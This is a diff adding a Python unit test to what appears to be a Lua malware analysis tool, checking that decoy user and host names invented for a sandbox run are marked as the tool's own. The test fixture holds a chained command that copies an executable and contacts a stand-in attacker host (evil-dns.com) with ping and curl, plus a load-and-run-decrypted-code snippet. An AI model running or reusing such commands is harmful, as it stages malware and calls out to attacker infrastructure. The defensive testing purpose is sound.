@@ -53,6 +53,17 @@ def test_each_behaviour_says_how_it_was_seen() -> None:
     assert {one.how for one in lua_view.lay_out(lua.analyze(HIDDEN)).behaviours} == {""}
 
 
+def test_what_was_made_up_for_the_run_is_marked_as_ours() -> None:
+    copied = Event(
+        "os.execute", ("copy a.exe C:\\Users\\d.weber\\a.exe & ping FIN-WS-0417.evil-dns.com & curl evil-dns.com",)
+    )
+    found = _ran(b"local f = load(decrypt(x)) f()", Trace(Outcome.EXPLAINED, events=(copied,)))
+    ours = {one.value: [listing.benign for listing in one.listings] for one in found.indicators}
+    assert ours["C:\\Users\\d.weber\\a.exe"] == [True]
+    assert ours["evil-dns.com"] == []
+    assert found.decoys == (("d.weber", "a user's name and home"), ("fin-ws-0417", "a host's name"))
+
+
 def test_what_could_not_run_is_told_and_changes_nothing_else() -> None:
     refused = _ran(HIDDEN, Trace(Outcome.NOT_EXECUTED, "isolation unavailable"))
     read = lua.analyze(HIDDEN, "x.lua")
